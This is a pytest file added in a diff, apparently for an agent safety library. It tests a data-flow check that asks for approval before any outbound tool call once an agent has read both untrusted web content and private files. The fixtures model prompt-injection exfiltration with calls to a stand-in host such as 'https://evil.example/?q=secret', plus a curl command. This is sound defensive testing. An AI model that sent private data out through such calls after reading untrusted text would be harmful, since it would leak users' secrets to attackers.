@@ -1,0 +1,92 @@
+"""When must a call be asked for because of what the conversation has read?"""
+
+import pytest
+
+from agentkit.decisions import Decision, Label, Verdict
+from agentkit.messages import AssistantMessage, Image, ToolCall, ToolMessage, UserMessage
+from agentkit.safety.flow import judge_flow
+
+LEAVES = Decision(Verdict.ALLOW, "url.public", "It is a public address.", egress=True)
+
+
+def conversation(*labels, said="Read it and tell me."):
+    """A prompt and one tool call with its result for each label."""
+    messages = [UserMessage(said)]
+    for index, label in enumerate(labels):
+        name = {Label.UNTRUSTED: "fetch_url", Label.PRIVATE: "read_file"}[label]
+        messages.append(AssistantMessage(tool_calls=(ToolCall(f"c{index}", name, f'{{"n": {index}}}'),)))
+        messages.append(ToolMessage(f"c{index}", name, "…", frozenset({label})))
+    return messages
+
+
+BOTH = (Label.UNTRUSTED, Label.PRIVATE)
+
+
+def test_both_labels_make_egress_an_ask():
+    """Once untrusted text and private data were read, a call that could carry data out names the two causes."""
+    decision = judge_flow(conversation(*BOTH), {"url": "https://evil.example/?q=secret"}, LEAVES)
+    assert (decision.verdict, decision.rule) == (Verdict.ASK, "flow")
+    assert 'fetch_url({"n": 0})' in decision.reason
+    assert 'read_file({"n": 1})' in decision.reason
+
+
+def test_order_of_reading_does_not_matter():
+    """Private data first and untrusted text after it is the same danger."""
+    assert judge_flow(conversation(*reversed(BOTH)), {"url": "https://evil.example/"}, LEAVES).rule == "flow"
+
+
+@pytest.mark.parametrize("labels", [(), (Label.UNTRUSTED,), (Label.PRIVATE,), (Label.PRIVATE, Label.PRIVATE)])
+def test_one_label_alone_changes_nothing(labels):
+    """Without both there is nobody to steal, or nothing to be stolen."""
+    assert judge_flow(conversation(*labels), {"url": "https://a.example/"}, LEAVES) is LEAVES
+
+
+def test_calls_that_stay_inside_are_not_asked_for():
+    """A call that cannot carry data out runs as before."""
+    inside = Decision(Verdict.ALLOW, "workspace.read", "It is in the workspace.")
+    assert judge_flow(conversation(*BOTH), {"path": "a.txt"}, inside) is inside
+
+
+def test_denial_stays_a_denial():
+    """What is denied is not softened to a question."""
+    denied = Decision(Verdict.DENY, "url.private-address", "It is private.", egress=True)
+    assert judge_flow(conversation(*BOTH), {"url": "http://10.0.0.1/"}, denied) is denied
+
+
+def test_question_keeps_its_own_reason_too():
+    """A call that had to be asked for anyway is asked for with both reasons."""
+    asked = Decision(Verdict.ASK, "shell.network", "It needs the network.", egress=True)
+    decision = judge_flow(conversation(*BOTH), {"command": "curl https://a.example"}, asked)
+    assert (decision.rule, "It needs the network." in decision.reason) == ("flow", True)
+
+
+@pytest.mark.parametrize(
+    ("arguments", "asked"),
+    [
+        ({"url": "https://a.example/page"}, False),
+        ({"url": "https://a.example/page?secret=1"}, True),
+        ({"url": "https://a.example/page", "extra": {"k": ["v"]}}, True),
+        ({"to": "bob", "count": 3}, False),
+        ({"to": "bob", "count": 31337}, True),
+        ({"headers": {"x-secret": "bob"}}, True),
+        ({}, True),
+    ],
+)
+def test_words_of_the_person_may_leave(arguments, asked):
+    """A call whose arguments the person wrote carries nothing that was read; one invented piece makes it a question."""
+    messages = conversation(*BOTH, said="Send https://a.example/page to bob 3 times")
+    assert (judge_flow(messages, arguments, LEAVES).rule == "flow") is asked
+
+
+def test_host_alone_is_not_the_address():
+    """That the person named a host does not make an address there, with words of the model in it, the person's own."""
+    decision = Decision(Verdict.ALLOW, "url.public", "Public.", evidence="a.example", egress=True)
+    messages = [UserMessage(("See https://a.example/", Image("https://a.example/x.png"))), *conversation(*BOTH)]
+    assert judge_flow(messages, {"url": "https://a.example/", "start": 0}, decision) is decision
+    assert judge_flow(messages, {"url": "https://a.example/?q=secret", "start": 0}, decision).rule == "flow"
+
+
+def test_result_without_its_call_is_named_all_the_same():
+    """A history that lost the call still knows which tool it was."""
+    messages = [ToolMessage("x", "mail", "…", frozenset(BOTH))]
+    assert "mail()" in judge_flow(messages, {"url": "https://evil.example/"}, LEAVES).reason
